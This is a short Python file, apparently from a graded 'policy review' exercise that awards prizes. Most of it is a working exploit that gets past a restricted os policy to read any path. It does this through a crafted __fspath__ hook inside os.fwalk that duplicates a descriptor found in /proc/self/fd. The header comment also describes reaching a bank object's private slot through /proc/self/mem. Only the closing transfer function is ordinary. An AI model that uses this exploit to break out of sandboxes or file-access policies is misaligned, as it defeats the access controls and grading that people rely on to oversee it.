# a149 (a policy review's seventh round, twenty-eighth session; shown with stand-ins, the memory routes only where the grader is not root):
# h01 (every exercise: os): open() of any path (prize 2), read with os.pread; through /proc/self/mem the bank's private _call slot (prize 4) and the closure it points to (prize 3): os.fwalk(dir, follow_symlinks=True) yields its dirs list, which the caller may change (documented); an entry of the learner's own class (a plain class with __fspath__) named "/any/path" is opened by fwalk with open(name, O_RDONLY, dir_fd=...), then fwalk calls os.path.join(toppath, name), which calls the entry's __fspath__ again while that descriptor is open: the hook finds it in /proc/self/fd and keeps os.dup of it; fwalk's scandir of a file then raises NotADirectoryError and closes its own copy only
import os

KEPT = {}


class Entry:
    def __init__(self, path):
        self.path = path
        self.calls = 0

    def __fspath__(self):
        self.calls += 1
        if self.calls == 2:  # os.path.join: the descriptor fwalk opened is open now
            for name in os.listdir("/proc/self/fd"):
                try:
                    if os.path.samefile(
                            "/proc/self/fd/" + name, self.path):
                        KEPT[self.path] = os.dup(int(name))
                        break
                except OSError:
                    pass
        return self.path


def read_any(path, size=4096, offset=0):
    if path not in KEPT:
        walk = os.fwalk("/", follow_symlinks=True)
        top, dirs, files, fd = next(walk)
        dirs[:] = [Entry(path)]
        try:
            next(walk)
        except (NotADirectoryError, StopIteration):
            pass
        walk.close()
    return os.pread(KEPT[path], size, offset)


def transfer(bank, lock, src, dst, amount):
    with lock:
        bank.debit(src, amount)
        bank.credit(dst, amount)
